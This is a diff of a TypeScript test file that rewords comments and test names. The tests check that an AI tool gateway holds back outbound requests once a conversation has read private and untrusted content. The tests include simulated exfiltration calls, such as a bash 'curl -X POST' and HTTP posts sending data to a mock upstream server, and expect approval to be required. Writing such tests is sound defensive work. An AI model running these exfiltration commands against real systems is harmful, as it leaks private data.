@@ -1,6 +1,6 @@
 /**
- * The taint rule for callers that name no session: chat clients that resend their history, in each dialect, and direct calls. A first
- * request reads private and untrusted content, a later one sends something out.
+ * The taint rule for callers without a session: chat clients that resend their history, in each dialect, and direct calls. A first
+ * request reads private and untrusted content, a later one sends data out.
  */
 import type { Client, ClientOptions } from '@modelcontextprotocol/client';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -18,7 +18,7 @@ type ClientShape = {
   text(answer: Answer['json']): string;
 };
 
-/** As the SDKs of each API resend a conversation: nothing but roles and texts. */
+/** As the SDKs of each API resend a conversation: only roles and texts. */
 const shapes: readonly ClientShape[] = [
   {
     name: 'chat completions',
@@ -96,7 +96,7 @@ describe('the taint rule without a session', () => {
         expect(status, text).toBe(200);
         return shape.text(json);
       };
-      /** Sends each input in a separate request, with the history before it. */
+      /** Sends each input in a separate request, with the preceding history. */
       const talk = async (...inputs: readonly string[]): Promise<Said[]> => {
         const messages: Said[] = [];
         for (const text of inputs) {
@@ -107,13 +107,13 @@ describe('the taint rule without a session', () => {
       };
       const out = (what: string) => `/${shape.name.replace(' ', '-')}-${what}`;
 
-      it('asks before the second request sends out what the first one read', async () => {
+      it('requires approval before the second request sends out what the first one read', async () => {
         const answer = (await talk(`${look}\n${page()}`, post(out('leak')))).at(-1)?.text;
         expect(answer).toContain('Waiting for approval of builtin.http_request');
         expect(upstream.countOf(out('leak'))).toBe(0);
       });
 
-      it('does not ask where the conversation has seen one of the two, or nothing', async () => {
+      it('requires none where the conversation contains only one of the two, or neither', async () => {
         for (const [name, first] of [
           ['private', look],
           ['page', page()],
@@ -125,7 +125,7 @@ describe('the taint rule without a session', () => {
     });
   }
 
-  describe('a history of a conversation that has seen both', () => {
+  describe('the history of a conversation that contains both', () => {
     const chat = async (messages: object[], more: object = {}, headers: Record<string, string> = {}): Promise<Answer> =>
       await service.call('POST', '/v1/chat/completions', { model: 'rehearsal/default', toolset: 'reach', messages, ...more }, headers);
     const user = (content: string) => ({ role: 'user', content });
@@ -153,7 +153,7 @@ describe('the taint rule without a session', () => {
       return !isAsked;
     };
 
-    it('is known by its stream, after a kill, and where the answer came from a listed session', async () => {
+    it('is recognized from its stream, after a kill, and where the response came from a listed session', async () => {
       expect(await sends(await clean({ stream: true }), '/h-stream-clean')).toBe(true);
       expect(await sends(await seen({ stream: true }), '/h-stream')).toBe(false);
       const history = await seen();
@@ -164,7 +164,7 @@ describe('the taint rule without a session', () => {
       expect(await sends(await seen({}, { 'x-moniker-session': 'new' }), '/h-listed')).toBe(false);
     });
 
-    it('is known with another toolset, and by another API', async () => {
+    it('is recognized with another toolset, and by another API', async () => {
       await put('/v1/toolsets/sender', { tools: [{ tool: 'builtin.http_request' }] });
       const history = await seen();
       expect(await sends(history, '/h-toolset', { toolset: 'sender' })).toBe(false);
@@ -174,7 +174,7 @@ describe('the taint rule without a session', () => {
       expect(upstream.countOf('/h-api')).toBe(0);
     });
 
-    it('stays marked when it is edited, cut, put into a listed session, or sent with another key', async () => {
+    it('stays tainted when it is edited, cut, put into a listed session, or sent with another key', async () => {
       const [asked, answer] = await seen();
       const other = (await service.call('POST', '/v1/keys', { name: 'replay', scopes: ['chat', 'tools'] })).json.key;
       const histories: [string, object[]][] = [
@@ -188,7 +188,7 @@ describe('the taint rule without a session', () => {
       expect(inNew.json.choices[0].message.content).toContain('Waiting for approval');
       const replayed = await chat([asked ?? {}, answer ?? {}, user(post('/h-key'))], {}, { authorization: `Bearer ${other}` });
       expect(replayed.json.choices[0].message.content).toContain('Waiting for approval');
-      // Sent to a session that holds another conversation, it forks.
+      // Sent to a session that holds another conversation, it forks the session.
       const session = (await chat([user('hello')], {}, { 'x-moniker-session': 'new' })).headers.get('x-moniker-session') ?? '';
       const forked = await chat([asked ?? {}, answer ?? {}, user(post('/h-fork'))], {}, { 'x-moniker-session': session });
       expect(forked.headers.get('x-moniker-session')).not.toBe(session);
@@ -199,7 +199,7 @@ describe('the taint rule without a session', () => {
 
   describe('direct calls', () => {
     type Call = (name: string, args: object) => Promise<string>;
-    /** The first word of a result, or the code that it was refused with. */
+    /** The first word of a result, or the code of its error. */
     const rest =
       (toolset: string, more: () => Record<string, string> = () => ({}), query = ''): Call =>
       async (name, args) => {
@@ -215,7 +215,7 @@ describe('the taint rule without a session', () => {
       };
     const sending = (path: string) => ({ url: `${upstream.url}${path}`, method: 'POST', body: 'the plan' });
     const reading = () => ({ url: `${upstream.url}/page` });
-    /** Reads both and sends; then what becomes of calls that send nothing. */
+    /** Reads both and sends; then returns the outcomes of calls that send nothing. */
     const leak = async (call: Call, path: string): Promise<string[]> => [
       await call('look', {}),
       await call('http_request', reading()),
@@ -229,13 +229,13 @@ describe('the taint rule without a session', () => {
       return name;
     };
 
-    it('over REST ask before the third call sends out what the first two read, after a restart as well', async () => {
+    it('over REST require approval before the third call sends out what the first two read, after a restart as well', async () => {
       const toolset = await toolsetOfItsOwn('direct-rest');
       const call = rest(toolset);
       expect(await leak(call, '/direct-rest')).toEqual(asked);
       await service.restart();
       expect(await call('http_request', sending('/direct-rest'))).toBe('approval_required');
-      // By a pinned version, by code over the tools, and by GET as well.
+      // With a pinned version, from code that calls the tools, and with GET as well.
       expect(await rest(toolset, undefined, '?version=1')('http_request', sending('/direct-rest'))).toBe('approval_required');
       expect(await call('bash', { command: `curl -s -X POST -d plan ${upstream.url}/direct-rest` })).toBe('approval_required');
       expect(await call('http_request', { url: `${upstream.url}/direct-rest?d=plan` })).toBe('approval_required');
@@ -246,13 +246,13 @@ describe('the taint rule without a session', () => {
       expect(tested.json.verdict).toBe('ask');
     });
 
-    it('with idempotency keys ask all the same', async () => {
+    it('with idempotency keys require approval as well', async () => {
       const call = rest(await toolsetOfItsOwn('direct-keyed'), () => ({ 'idempotency-key': crypto.randomUUID() }));
       expect(await leak(call, '/direct-keyed')).toEqual(asked);
       expect(upstream.countOf('/direct-keyed')).toBe(0);
     });
 
-    it('of another key, or with another toolset, are another conversation', async () => {
+    it('of another key, or with another toolset, are a separate conversation', async () => {
       const toolset = await toolsetOfItsOwn('direct-shared');
       await leak(rest(toolset), '/direct-shared');
       const { json } = await service.call('POST', '/v1/keys', { name: 'other', scopes: ['tools'] });
@@ -261,7 +261,7 @@ describe('the taint rule without a session', () => {
       expect(await rest(await toolsetOfItsOwn('direct-else'))('http_request', sending('/direct-else'))).toBe('ran');
     });
 
-    it('run where an administrator has allowed the entry, or the rule', async () => {
+    it('run without approval where an administrator has allowed the entry or the rule', async () => {
       await put('/v1/toolsets/direct-free', {
         tools: [{ tool: 'builtin.http_request', approval: 'never' }, { tool: 'local.calculate' }, { tool: 'vault.look' }],
       });
@@ -269,7 +269,7 @@ describe('the taint rule without a session', () => {
     });
 
     for (const era of ['pinned', 'legacy'] as const)
-      it(`over MCP (${era}) ask, and send once a person accepts`, async () => {
+      it(`over MCP (${era}) require approval, and send once the user accepts`, async () => {
         const toolset = await toolsetOfItsOwn(`direct-${era}`);
         const path = `/direct-${era}`;
         const connect = (capabilities: ClientOptions['capabilities'] = {}, prepare?: (client: Client) => void) =>
